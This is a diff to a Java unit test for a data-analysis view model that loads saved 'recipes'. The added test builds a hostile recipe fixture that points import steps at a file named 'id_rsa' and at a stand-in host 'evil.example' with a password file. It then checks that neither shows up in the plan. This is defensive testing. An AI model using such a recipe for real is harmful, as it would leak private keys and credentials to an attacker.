@@ -106,13 +106,36 @@ class AgainViewModelTest {
   }
 
   @Test
+  void showsWhatARecipeWantsToReadAndReadsWhatIsGiven() throws IOException {
+    Path secret = Files.writeString(folder.resolve("id_rsa"), "order_id,customer_id,date,amount\n1,PRIVATE,2025-01-01,1\n");
+    Path recipe = Files.writeString(folder.resolve("theirs.json"), ("{'steps':[{'op':'data.import','params':{'file':'" + secret
+        + "','table':'orders','role':'transactions','password-file':'" + secret + "'}},"
+        + "{'op':'data.import-query','params':{'system':'postgresql','host':'evil.example','database':'shop','query':'select 1','table':'q',"
+        + "'passwordFile':'" + secret + "'}},{'op':'data.drop-duplicates','params':{'table':'orders'}}]}").replace('\'', '"'));
+    model.takeRecipe(recipe);
+    assertEquals(List.of("id_rsa", "shop"), model.wanted().stream().map(clientele.analysis.data.RecipeSources.Wanted::name).toList());
+    assertEquals(List.of(), model.plan());
+    Path mine = orders("february.csv", 2, "amount");
+    model.add(List.of(mine));
+    until(() -> model.plan().size() == 2);
+    assertEquals(Optional.of(mine), model.given(model.wanted().getFirst()).map(AgainViewModel.NewFile::path));
+    assertEquals(Optional.empty(), model.given(model.wanted().getLast()));
+    String plan = clientele.study.Json.write(model.plan());
+    assertFalse(plan.contains("id_rsa") || plan.contains("evil"), plan);
+    Path unknown = Files.writeString(folder.resolve("odd.json"), "{\"steps\":[{\"op\":\"study.load-bundle\",\"params\":{\"file\":\"x.zip\"}}]}");
+    model.take(AgainViewModel.Source.CLEANING);
+    model.takeRecipe(unknown);
+    assertEquals("OP-UNKNOWN", model.problem().orElseThrow().code().id());
+  }
+
+  @Test
   void takesASavedRecipeAndSaysWhatIsNone() throws IOException {
     Path bad = Files.writeString(folder.resolve("bad.json"), "[]");
     model.takeRecipe(bad);
     assertEquals("RECIPE-FORM", model.problem().orElseThrow().code().id());
     model.takeRecipe(folder.resolve("none.json"));
     assertEquals("DATA-NO-RECIPE", model.problem().orElseThrow().code().id());
-    Path saved = Files.writeString(folder.resolve("monthly.json"), Recipe.of(context.path()).write());
+    Path saved = Files.writeString(folder.resolve("monthly.json"), Recipe.of(context.path(), context.operations()).write());
     model.takeRecipe(saved);
     assertEquals(Optional.empty(), model.problem());
     assertEquals(List.of("orders"), model.tables());
